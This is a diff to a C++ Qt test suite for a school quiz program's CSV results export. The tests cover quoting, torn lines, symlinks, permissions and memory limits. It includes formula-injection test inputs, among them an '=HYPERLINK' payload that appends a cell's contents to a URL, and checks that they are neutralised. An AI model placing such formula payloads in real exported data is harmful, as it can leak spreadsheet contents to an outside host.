@@ -5,12 +5,17 @@
 #include "control/commandline.h"
 #include "result/journal.h"
 #include "result/journalline.h"
+#include "teacher/csvexport.h"
 
 #include <QDir>
 #include <QFile>
 #include <QProcess>
+#include <QStandardPaths>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <sys/stat.h>
+#include <unistd.h>
 
 using Mode = CommandLine::Mode;
 Q_DECLARE_METATYPE(Mode)
@@ -32,14 +37,16 @@ struct Ran {
     int code = -1;
     QByteArray out, err;
 };
-Ran netquiz(const QStringList &args, const QString &folder = {}, const QProcessEnvironment &env = QProcessEnvironment::systemEnvironment())
+// The built netquiz, or `program` (which starts netquiz itself) with these arguments.
+Ran netquiz(const QStringList &args, const QString &folder = {}, const QProcessEnvironment &env = QProcessEnvironment::systemEnvironment(),
+            const QString &program = QStringLiteral(NETQUIZ_EXE))
 {
     QProcess p;
     p.setProcessEnvironment(env);
     if (!folder.isEmpty())
         p.setWorkingDirectory(folder);
-    p.start(QStringLiteral(NETQUIZ_EXE), args);
-    if (!p.waitForFinished(20000))
+    p.start(program, args);
+    if (!p.waitForFinished(50000))
         return {};
     return {p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1, p.readAllStandardOutput(), p.readAllStandardError()};
 }
@@ -67,6 +74,13 @@ private slots:
     void exitCodes();
     void csvBytes();
     void csvOfDefaultAndRelativeJournal();
+    void csvCells_data();
+    void csvCells();
+    void refusedOutputs_data();
+    void refusedOutputs();
+    void unreadableAsAnotherUser_data();
+    void unreadableAsAnotherUser();
+    void hugeJournalInBoundedMemory();
 
 private:
     QTemporaryDir dir;
@@ -118,10 +132,11 @@ void CommandLineTest::exitCodes_data()
     QTest::addColumn<int>("code");
     QTest::addColumn<QString>("says"); // on stdout for 0, else on stderr
     QTest::addRow("help") << QStringList{"--help"} << 0 << "--results [ШЛЯХ...]";
+    QTest::addRow("help names every exit code") << QStringList{"--help"} << 0 << "3 - файл CSV записано, але якийсь журнал";
     QTest::addRow("version") << QStringList{"--version"} << 0 << "netquiz 1.";
     QTest::addRow("unknown option") << QStringList{"--bogus"} << 2 << "невідомий параметр «--bogus»";
     QTest::addRow("missing value") << QStringList{"--journal"} << 2 << "«--journal» потребує значення";
-    QTest::addRow("csv of a missing path") << QStringList{"--results", "--csv", "o.csv", "немає/1.txt"} << 2 << "«немає/1.txt»";
+    QTest::addRow("csv of a missing path") << QStringList{"--results", "--csv", "o.csv", "немає/1.txt", "1.txt"} << 3 << "«немає/1.txt»";
     QTest::addRow("csv into a missing folder") << QStringList{"--results", "--csv", "немає/o.csv", "1.txt"} << 2 << "немає/o.csv";
     QTest::addRow("test without a display") << QStringList{} << 1 << "a graphical session is needed";
     QTest::addRow("view without a display") << QStringList{"--results"} << 1 << "потрібен графічний сеанс";
@@ -139,7 +154,11 @@ void CommandLineTest::exitCodes()
     const Ran ran = netquiz(args, dir.path(), env);
     QCOMPARE(ran.code, code);
     QVERIFY2(QString::fromUtf8(code == 0 ? ran.out : ran.err).contains(says), ran.err.constData());
-    QVERIFY(!QFile::exists(dir.filePath(QStringLiteral("o.csv")))); // nothing written on failure
+    // Written with what could be read when something could not (3); otherwise nothing is written.
+    QCOMPARE(QFile::exists(dir.filePath(QStringLiteral("o.csv"))), code == 3);
+    if (code == 3)
+        QVERIFY(QString::fromUtf8(readAll(dir.filePath(QStringLiteral("o.csv")))).contains(QStringLiteral(";Іван;9;07.12.26;5;")));
+    QFile::remove(dir.filePath(QStringLiteral("o.csv")));
 }
 
 // Catches any byte of the CSV going astray: BOM, header, quoting, CR LF, file and line order,
@@ -148,18 +167,24 @@ void CommandLineTest::csvBytes()
 {
     const QString a = dir.filePath(QStringLiteral("клас/ПК-2/1.txt")), b = dir.filePath(QStringLiteral("клас/ПК-1/1.txt"));
     QVERIFY(write(a, journal::record("O\"Нілл; Ганна", "9-А", "07.12.26", "12") + "\r\n" +
-                         journal::record("Олена - Марія", "9;Б", "7.12.2026", "5")));
-    QVERIFY(write(b, (journal::kTopic + " - Іван - 9-А - 06.12.26 - Оцінка - 7\n").toUtf8()));
+                         journal::record("Олена - Марія", "9;Б", "7.12.2026", "5") +
+                         journal::record("=HYPERLINK(\"http://x/?\"&A1;\"Іван\")", "+1", "07.12.26", "9")));
+    // The last line torn (12 cut to 1, no line end): listed, not exported.
+    QVERIFY(write(b, (journal::kTopic + " - Іван - 9-А - 06.12.26 - Оцінка - 7\n").toUtf8() +
+                         journal::record("Петро", "9-А", "06.12.26", "12").chopped(3)));
+    // The folder named twice, once through a link to it: each journal read once.
+    QVERIFY(QFile::link(dir.filePath(QStringLiteral("клас")), dir.filePath(QStringLiteral("посилання"))));
     const QString out = dir.filePath(QStringLiteral("out.csv"));
-    const Ran ran = netquiz({"--results", "--csv", out, dir.filePath(QStringLiteral("клас"))});
+    const Ran ran = netquiz({"--results", "--csv", out, dir.filePath(QStringLiteral("клас")), dir.filePath(QStringLiteral("посилання"))});
     QCOMPARE(ran.code, 0);
     const QByteArray topic = journal::kTopicName.toUtf8();
     const QByteArray expected = "\xEF\xBB\xBF" "Тема;Прізвище та ім'я;Клас;Дата;Оцінка;Файл;Рядок\r\n" +
                                 topic + ";Іван;9-А;06.12.26;7;" + b.toUtf8() + ";1\r\n" +
                                 topic + ";\"O\"\"Нілл; Ганна\";9-А;07.12.26;12;" + a.toUtf8() + ";1\r\n" +
-                                topic + ";Олена - Марія;\"9;Б\";7.12.2026;5;" + a.toUtf8() + ";3\r\n";
+                                topic + ";Олена - Марія;\"9;Б\";7.12.2026;5;" + a.toUtf8() + ";3\r\n" +
+                                topic + ";\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Іван\"\")\";'+1;07.12.26;9;" + a.toUtf8() + ";4\r\n";
     QCOMPARE(readAll(out), expected);
-    QCOMPARE(ran.err, a.toUtf8() + ":2: порожній рядок\n");
+    QCOMPARE(ran.err, b.toUtf8() + ":2: незавершений рядок: немає кінця рядка\n" + a.toUtf8() + ":2: порожній рядок\n");
 }
 
 // Catches --journal left relative to some other folder, and the view's default sources.
@@ -175,6 +200,157 @@ void CommandLineTest::csvOfDefaultAndRelativeJournal()
     const QString csv = QString::fromUtf8(readAll(dir.filePath(QStringLiteral("both.csv"))));
     QVERIFY2(csv.contains(QStringLiteral(";Домашній;")), qPrintable(csv));
     QVERIFY2(csv.contains(QStringLiteral(";Спільний;9;07.12.26;7;%1;1").arg(dir.filePath(QStringLiteral("спільна/1.txt")))), qPrintable(csv));
+}
+
+// A cell a spreadsheet would run as a formula is written as text. Catches a name such as
+// =HYPERLINK(...) reaching the teacher's spreadsheet as a working formula, and harmless text
+// changed.
+void CommandLineTest::csvCells_data()
+{
+    QTest::addColumn<QString>("name");
+    QTest::addColumn<QByteArray>("cell");
+    QTest::addRow("=") << "=1+2" << QByteArray("'=1+2");
+    QTest::addRow("+") << "+380501234567" << QByteArray("'+380501234567");
+    QTest::addRow("-") << "-2+3" << QByteArray("'-2+3");
+    QTest::addRow("@") << "@SUM(A1)" << QByteArray("'@SUM(A1)");
+    QTest::addRow("tab") << "\t=1" << QByteArray("'\t=1");
+    QTest::addRow("CR, quoted after the apostrophe") << "\r=1" << QByteArray("\"'\r=1\"");
+    QTest::addRow("; and quotes, quoted after the apostrophe") << "=A1&\";\"" << QByteArray("\"'=A1&\"\";\"\"\"");
+    QTest::addRow("= inside: as it is") << "Іван=Петро" << QByteArray("Іван=Петро");
+    QTest::addRow("blank first: as it is") << " =1" << QByteArray(" =1");
+    QTest::addRow("empty") << "" << QByteArray("");
+}
+
+void CommandLineTest::csvCells()
+{
+    QFETCH(QString, name);
+    QFETCH(QByteArray, cell);
+    journal::Entry entry;
+    entry.topic = QStringLiteral("Т");
+    entry.name = name;
+    entry.group = QStringLiteral("9");
+    entry.date = QStringLiteral("07.12.26");
+    entry.grade = QStringLiteral("5");
+    teacher::CsvDocument csv;
+    const qsizetype header = csv.bytes().size();
+    csv.add(entry, QStringLiteral("/к/1.txt"), 3);
+    QCOMPARE(csv.bytes().mid(header), QByteArray("Т;" + cell + ";9;07.12.26;5;/к/1.txt;3\r\n"));
+}
+
+// --csv never writes over a journal: not one being read (however OUT leads to it), not any 1.txt.
+// Catches `--csv 1.txt 1.txt` replacing the journal with a table.
+void CommandLineTest::refusedOutputs_data()
+{
+    QTest::addColumn<QString>("out");
+    QTest::addColumn<QString>("read");
+    QTest::addColumn<QString>("says");
+    QTest::addRow("the journal read") << "клас/ПК-1/1.txt" << "клас/ПК-1/1.txt" << "це журнал, який читається";
+    QTest::addRow("a journal in the folder read") << "клас/ПК-1/1.txt" << "клас" << "це журнал, який читається";
+    QTest::addRow("a journal reached through a link to its folder") << "клас/ПК-1/1.txt" << "до-класу" << "це журнал, який читається";
+    QTest::addRow("a link to a journal read") << "до-журналу.csv" << "клас" << "це журнал, який читається";
+    QTest::addRow("another journal, not read") << "інший/1.txt" << "клас" << "на місце журналу 1.txt";
+    QTest::addRow("a journal's name in capitals") << "інший/1.TXT" << "клас" << "на місце журналу 1.txt";
+    QTest::addRow("a link to a 1.txt yet to be") << "до-нового.csv" << "клас" << "на місце журналу 1.txt";
+}
+
+void CommandLineTest::refusedOutputs()
+{
+    QFETCH(QString, out);
+    QFETCH(QString, read);
+    QFETCH(QString, says);
+    QTemporaryDir here;
+    const QByteArray journalBytes = journal::record("Іван", "9", "07.12.26", "5");
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-1/1.txt")), journalBytes));
+    QVERIFY(write(here.filePath(QStringLiteral("інший/1.txt")), journalBytes));
+    QVERIFY(QFile::link(QStringLiteral("клас"), here.filePath(QStringLiteral("до-класу"))));
+    QVERIFY(QFile::link(QStringLiteral("клас/ПК-1/1.txt"), here.filePath(QStringLiteral("до-журналу.csv"))));
+    QVERIFY(QFile::link(QStringLiteral("новий/1.txt"), here.filePath(QStringLiteral("до-нового.csv"))));
+    const Ran ran = netquiz({"--results", "--csv", out, read}, here.path());
+    QCOMPARE(ran.code, 2);
+    QVERIFY2(QString::fromUtf8(ran.err).contains(says), ran.err.constData());
+    QVERIFY2(QString::fromUtf8(ran.err).contains(QStringLiteral("таблицю CSV не записано")), ran.err.constData());
+    QCOMPARE(readAll(here.filePath(QStringLiteral("клас/ПК-1/1.txt"))), journalBytes);
+    QCOMPARE(readAll(here.filePath(QStringLiteral("інший/1.txt"))), journalBytes);
+    QVERIFY(!QFile::exists(here.filePath(QStringLiteral("новий/1.txt"))));
+    // No temporary file left beside them.
+    QCOMPARE(QDir(here.path()).entryList(QDir::Files | QDir::System | QDir::Hidden, QDir::Name),
+             (QStringList{"до-журналу.csv", "до-нового.csv"}));
+}
+
+// Run as another user (root reads everything): a journal of mode 600 and a folder of mode 700
+// belonging to root. Catches unreadable journals and folders dropped without a word and exit 0,
+// and an unreadable folder called empty.
+void CommandLineTest::unreadableAsAnotherUser_data()
+{
+    QTest::addColumn<QString>("named");
+    QTest::addColumn<QStringList>("says"); // on stderr, each
+    QTest::addColumn<QStringList>("names"); // in the CSV, in order
+    const QString noRight = QStringLiteral("(немає права читання (Permission denied))");
+    QTest::addRow("the class folder") << "клас"
+                                      << QStringList{"netquiz: Не вдалося прочитати «клас/ПК-3» " + noRight,
+                                                     "netquiz: Не вдалося прочитати «клас/ПК-2/1.txt» " + noRight}
+                                      << QStringList{"Іван", "Ганна"};
+    QTest::addRow("the unreadable folder") << "клас/ПК-3" << QStringList{"netquiz: Не вдалося прочитати «клас/ПК-3» " + noRight}
+                                           << QStringList{};
+    QTest::addRow("the unreadable journal") << "клас/ПК-2/1.txt"
+                                            << QStringList{"netquiz: Не вдалося прочитати «клас/ПК-2/1.txt» " + noRight}
+                                            << QStringList{};
+}
+
+void CommandLineTest::unreadableAsAnotherUser()
+{
+    QFETCH(QString, named);
+    QFETCH(QStringList, says);
+    QFETCH(QStringList, names);
+    const QString setpriv = QStandardPaths::findExecutable(QStringLiteral("setpriv"));
+    if (setpriv.isEmpty() || ::geteuid() != 0) {
+        if (qEnvironmentVariable("CI") == QLatin1String("true"))
+            QFAIL("needs root and setpriv to run netquiz as another user");
+        QSKIP("needs root and setpriv to run netquiz as another user");
+    }
+    QTemporaryDir here;
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-1/1.txt")), journal::record("Іван", "9", "07.12.26", "5") +
+                                                                        journal::record("Ганна", "9", "07.12.26", "7")));
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-2/1.txt")), journal::record("Петро", "9", "07.12.26", "8")));
+    QVERIFY(write(here.filePath(QStringLiteral("клас/ПК-3/1.txt")), journal::record("Олег", "9", "07.12.26", "9")));
+    QVERIFY(QDir().mkpath(here.filePath(QStringLiteral("вихід"))));
+    auto mode = [&](const char *path, mode_t m) { return ::chmod(QFile::encodeName(here.filePath(QString::fromUtf8(path))), m) == 0; };
+    QVERIFY(mode("", 0755) && mode("вихід", 0777) && mode("клас/ПК-1/1.txt", 0644) && mode("клас/ПК-2/1.txt", 0600) &&
+            mode("клас/ПК-3", 0700));
+    const Ran ran = netquiz({"--reuid=65534", "--regid=65534", "--clear-groups", QStringLiteral(NETQUIZ_EXE), "--results",
+                             "--csv", "вихід/o.csv", named},
+                            here.path(), QProcessEnvironment::systemEnvironment(), setpriv);
+    QCOMPARE(ran.code, 3);
+    const QStringList err = QString::fromUtf8(ran.err).split(u'\n', Qt::SkipEmptyParts);
+    QCOMPARE(err, says);
+    QStringList got;
+    const QStringList rows = QString::fromUtf8(readAll(here.filePath(QStringLiteral("вихід/o.csv")))).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
+    for (qsizetype i = 1; i < rows.size(); ++i)
+        got << rows[i].section(u';', 1, 1);
+    QCOMPARE(got, names);
+}
+
+// A 2 GiB journal of nothing (a sparse file), then one result: read in bounded memory.
+// Catches the whole file read into memory (under this limit the program aborted).
+void CommandLineTest::hugeJournalInBoundedMemory()
+{
+    const QString prlimit = QStandardPaths::findExecutable(QStringLiteral("prlimit"));
+    if (prlimit.isEmpty()) {
+        if (qEnvironmentVariable("CI") == QLatin1String("true"))
+            QFAIL("needs prlimit (util-linux)");
+        QSKIP("needs prlimit (util-linux)");
+    }
+    QTemporaryDir here;
+    const QString path = here.filePath(QStringLiteral("1.txt"));
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::WriteOnly) && file.resize(qint64(2) << 30) && file.seek(file.size()));
+    QVERIFY(file.write("\r\n" + journal::record("Іван", "9", "07.12.26", "5")) > 0);
+    file.close();
+    const Ran ran = netquiz({"--as=1000000000", QStringLiteral(NETQUIZ_EXE), "--results", "--csv", "o.csv", "1.txt"},
+                            here.path(), QProcessEnvironment::systemEnvironment(), prlimit);
+    QCOMPARE(ran.code, 0);
+    QCOMPARE(ran.err, QByteArray("1.txt:1: задовгий рядок: 2147483648 байтів, більше ніж 4096\n"));
+    QVERIFY(readAll(here.filePath(QStringLiteral("o.csv"))).endsWith(";Іван;9;07.12.26;5;1.txt;2\r\n"));
 }
 
 QTEST_GUILESS_MAIN(CommandLineTest)
